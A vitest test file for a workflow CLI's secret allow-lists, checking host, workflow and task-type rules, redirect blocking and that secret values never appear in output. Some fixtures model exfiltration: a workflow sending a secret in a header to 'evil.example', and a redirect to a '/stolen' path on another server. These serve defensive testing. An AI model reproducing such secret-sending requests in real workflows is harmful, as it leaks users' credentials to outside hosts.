import { mkdirSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage } from "node:http";
import { join } from "node:path";
import { listen } from "@autokestra/test-kit";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createSandbox, type Sandbox } from "./run-cli.ts";

const VALUE = "canary-7f3a9c1e5b8d";
let box: Sandbox;

beforeEach(() => {
  box = createSandbox();
});
afterEach(() => box.remove());

async function set(name: string, ...args: string[]): Promise<void> {
  const { code, stderr } = await box.ak(["secrets", "set", name, ...args], { input: VALUE });
  expect([code, stderr]).toEqual([0, expect.stringContaining("stored")]);
}

function write(name: string, text: string): void {
  mkdirSync(join(box.folder, name, ".."), { recursive: true });
  writeFileSync(join(box.folder, name), text);
}

const described = async (name: string) =>
  JSON.parse((await box.ak(["secrets", "describe", name, "--json"])).stdout)["allow"];

describe("who may use a secret", () => {
  it("is set, changed, removed and shown; one without rules has no such key", async () => {
    await set("A", "--allow-workflow", "b", "--allow-workflow", "a", "--allow-host", "API.example.com:443");
    await set("FREE");
    const allow = { workflows: ["a", "b"], taskTypes: [], hosts: ["api.example.com:443"] };
    expect(await described("A")).toEqual(allow);
    const list = JSON.parse((await box.ak(["secrets", "list", "--json"])).stdout);
    expect(list.map((one: object) => "allow" in one)).toEqual([true, false]);
    expect((await box.ak(["secrets", "describe", "A"])).stdout).toContain(
      "workflows\ta,b\ntask types\tcore/http.*\nhosts\tapi.example.com:443\n",
    );
    await set("A");
    expect(await described("A")).toEqual(allow);
    const edit = async (...args: string[]) => (await box.ak(["secrets", "edit", "A", ...args])).code;
    expect(await edit("--allow-task-type", "core/http.get", "--allow-host", "")).toBe(0);
    expect(await described("A")).toEqual({ ...allow, taskTypes: ["core/http.get"], hosts: [] });
    expect(await edit("--allow-task-type", "", "--allow-workflow", "")).toBe(0);
    expect(await described("A")).toBe(undefined);
    await set("A", "--allow-workflow", "c");
    expect(await described("A")).toEqual({ workflows: ["c"], taskTypes: [], hosts: [] });
  });

  it.each([
    ["--allow-host", "https://user:pa55word@api.example.com/x"],
    ["--allow-task-type", "core/*"],
    ["--allow-workflow", "not an id"],
  ])("refuses %s %s without repeating it, and leaves no store behind", async (option, item) => {
    const { code, stdout, stderr } = await box.ak(["secrets", "set", "A", option, item], { input: VALUE });
    expect(code).toBe(5);
    expect(stdout + stderr).not.toContain(item);
    expect(stderr).toMatch(/^error: Secret 'A': one of the .* is not valid\nhint: /);
    expect((await box.ak(["secrets", "list"])).stderr).toContain("No secrets found");
  });
});

/** Two servers, of which one redirects to the other, and what came to each. */
async function twoServers() {
  const came: { allowed: IncomingMessage[]; other: IncomingMessage[] } = { allowed: [], other: [] };
  const other = createServer((request, response) => {
    came.other.push(request);
    response.end("ok");
  });
  const otherUrl = await listen(other);
  const allowed = createServer((request, response) => {
    came.allowed.push(request);
    const path = request.url ?? "";
    if (path.startsWith("/redirect")) response.writeHead(302, { location: `${otherUrl}/stolen` });
    if (path.startsWith("/stay")) response.writeHead(302, { location: "/end" });
    response.end("ok");
  });
  const allowedUrl = await listen(allowed);
  return {
    came,
    urls: { allowed: allowedUrl, other: otherUrl },
    close: () => [allowed, other].map((one) => one.close()),
  };
}

describe("a run whose secret may be sent to one host only", () => {
  const REDIRECT = "followRedirects: always";
  it.each<[string, string, string, number, string | null]>([
    ["reaches it", "allowed", "/end", 0, null],
    ["follows a redirect within it", "allowed", "/stay", 0, null],
    [
      "follows no redirect to another one",
      "allowed",
      "/redirect",
      1,
      "it is not allowed: the secret TOKEN may be sent to",
    ],
    ["does not connect to another one", "other", "/x", 1, "it is not allowed: the secret TOKEN may be sent to"],
  ])("%s", async (_, server, path, code, message) => {
    const { came, urls, close } = await twoServers();
    try {
      await set("TOKEN", "--allow-host", new URL(urls.allowed).host);
      const at = server === "allowed" ? urls.allowed : urls.other;
      write(
        "w.yaml",
        `apiVersion: v1\nid: w\nsecrets: [TOKEN]\ninputs: { at: { type: string } }\ntasks:\n  - id: send\n    type: core/http.get\n    inputs: { url: "{{ inputs.at }}${path}", ${REDIRECT}, headers: { X-Key: "{{ secrets.TOKEN }}" } }\n`,
      );
      const result = await box.ak(["run", "w.yaml", "--input", `at=${at}`]);
      expect([result.code, result.stdout]).toEqual([code, expect.stringContaining(message ?? "send")]);
      expect(result.stdout + result.stderr).not.toContain(VALUE);
      expect(came.other).toEqual([]);
      expect(came.allowed.map(({ headers }) => headers["x-key"])).toEqual(
        server === "other" ? [] : path === "/stay" ? [VALUE, VALUE] : [VALUE],
      );
      // The negative control: without the rule, the other server is reached.
      expect((await box.ak(["secrets", "edit", "TOKEN", "--allow-host", ""])).code).toBe(0);
      await box.ak(["run", "w.yaml", "--input", `at=${at}`]);
      expect(came.other.length > 0).toBe(message !== null);
    } finally {
      close();
    }
  });

  it("is refused before its first task where the file says enough, with the place and the rule", async () => {
    await set("TOKEN", "--allow-workflow", "deploy", "--allow-host", "api.example.com");
    write(
      "w.yaml",
      'apiVersion: v1\nid: deploy\nsecrets: [TOKEN]\ntasks:\n  - { id: first, type: core/console.log, inputs: { message: started } }\n  - { id: say, type: core/console.log, inputs: { message: "{{ secrets.TOKEN }}" } }\n  - { id: send, type: core/http.get, inputs: { url: "https://evil.example", headers: { a: "{{ secrets.TOKEN }}" } } }\n',
    );
    const ran = await box.ak(["run", "w.yaml"]);
    expect([ran.code, ran.stdout]).toEqual([5, ""]);
    expect(ran.stderr).toContain(
      "Secret 'TOKEN' may not be used by task 'say' (core/console.log): it allows the task types core/http.*, because it allows only certain hosts\n --> w.yaml:6:",
    );
    expect(ran.stderr).toContain(
      "may not be sent to 'evil.example' by task 'send': it allows the hosts api.example.com\n",
    );
    const checked = await box.ak(["check", "w.yaml", "--json"]);
    expect(checked.code).toBe(1);
    const [{ problems }] = JSON.parse(checked.stdout);
    expect(
      problems.map(({ code, position }: { code: string; position: { line: number } }) => [code, position.line]),
    ).toEqual([
      ["SECRET_NOT_ALLOWED", 6],
      ["SECRET_NOT_ALLOWED", 7],
    ]);
    write(
      "evil.yaml",
      "apiVersion: v1\nid: evil\nsecrets: [TOKEN]\ntasks: [{ id: a, type: core/console.log, inputs: { message: a } }]\n",
    );
    const evil = await box.ak(["run", "evil.yaml"]);
    expect([evil.code, evil.stdout]).toEqual([5, ""]);
    expect(evil.stderr).toContain(
      "Secret 'TOKEN' may not be used by workflow 'evil': it allows the workflows deploy\n --> evil.yaml:3:11",
    );
  });
});

describe("secrets usage", () => {
  const workflow = (id: string, secrets: string, task: string) =>
    `apiVersion: v1\nid: ${id}\nsecrets: [${secrets}]\ntasks:\n  - ${task}\n`;
  const say = (text: string) => `{ id: say, type: core/console.log, inputs: { message: "${text}" } }`;

  beforeEach(async () => {
    for (const name of ["A", "B", "UNUSED"]) await set(name);
    write("flows/one.yaml", workflow("one", "A, B", say("{{ secrets.A }}")));
    write(
      "flows/deep/two.json",
      JSON.stringify({
        apiVersion: "v1",
        id: "two",
        secrets: ["A", "ELSEWHERE"],
        tasks: [{ id: "c", type: "core/workflow.call", inputs: { file: "../three.yml" } }],
      }),
    );
    write("flows/three.yml", workflow("three", "A", say("hello")));
    write("flows/package.json", '{"name":"x"}');
    write("flows/.hidden/four.yaml", workflow("four", "UNUSED", say("a")));
  });

  it("lists the workflows and tasks of each secret, and names those without", async () => {
    const { code, stdout, stderr } = await box.ak(["secrets", "usage", "--workflows", "flows"]);
    expect([code, stdout.split("\n")]).toEqual([
      0,
      [
        "A\tyes\ttwo\tc\tflows/deep/two.json",
        "A\tyes\tone\tsay\tflows/one.yaml",
        "A\tyes\tthree\t\tflows/three.yml",
        "B\tyes\tone\t\tflows/one.yaml",
        "ELSEWHERE\tno\ttwo\t\tflows/deep/two.json",
        "UNUSED\tyes\t\t\t",
        "",
      ],
    ]);
    expect(stderr).toBe("note: used by none of 3 workflows: UNUSED\n");
    expect(stdout + stderr).not.toContain(VALUE);
  });

  it("is about one secret, and about files that are given", async () => {
    const one = await box.ak(["secrets", "usage", "B", "flows/one.yaml", "--json"]);
    expect(JSON.parse(one.stdout)).toEqual([
      { name: "B", stored: true, workflows: [{ id: "one", file: "flows/one.yaml", tasks: [] }] },
    ]);
    const files = await box.ak(["secrets", "usage", "flows/three.yml", "flows/one.yaml", "--json"]);
    expect(
      JSON.parse(files.stdout).map(({ name, workflows }: { name: string; workflows: object[] }) => [
        name,
        workflows.length,
      ]),
    ).toEqual([
      ["A", 2],
      ["B", 1],
      ["UNUSED", 0],
    ]);
  });

  it("says which file could not be read, and fails: a secret may be used there", async () => {
    write("flows/broken.yaml", "tasks: [");
    const { code, stdout, stderr } = await box.ak(["secrets", "usage", "UNUSED", "--workflows", "flows"]);
    expect([code, stdout]).toEqual([1, "UNUSED\tyes\t\t\t\n"]);
    expect(stderr).toContain("warning: flows/broken.yaml is not a workflow that can be read: ");
  });

  it.each<[readonly string[], number]>([
    [["usage"], 2],
    [["usage", "A"], 2],
    [["usage", "NOPE", "flows/one.yaml"], 3],
    [["usage", "--workflows", "nowhere"], 3],
    [["usage", "a b", "flows/one.yaml"], 5],
  ])("%j ends with %d", async (args, code) => expect((await box.ak(["secrets", ...args])).code).toBe(code));
});
